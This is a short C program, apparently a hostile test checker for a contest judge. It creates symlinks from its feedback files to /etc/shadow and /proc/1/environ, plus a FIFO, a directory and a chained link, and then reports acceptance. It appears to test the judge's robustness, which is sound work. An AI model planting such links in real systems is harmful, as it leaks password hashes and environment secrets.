// A checker whose feedback is links, pipes and folders; what it decides counts, what it left does not.
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int count, char **arguments) {
    if (count < 4 || chdir(arguments[3])) return 1;
    symlink("/etc/shadow", "judgemessage.txt");
    symlink("/proc/1/environ", "teammessage.txt");
    mkfifo("score.txt", 0666);
    mkdir("score_multiplier.txt", 0777);
    symlink("judgemessage.txt", "nextpass.in");
    return 42;
}
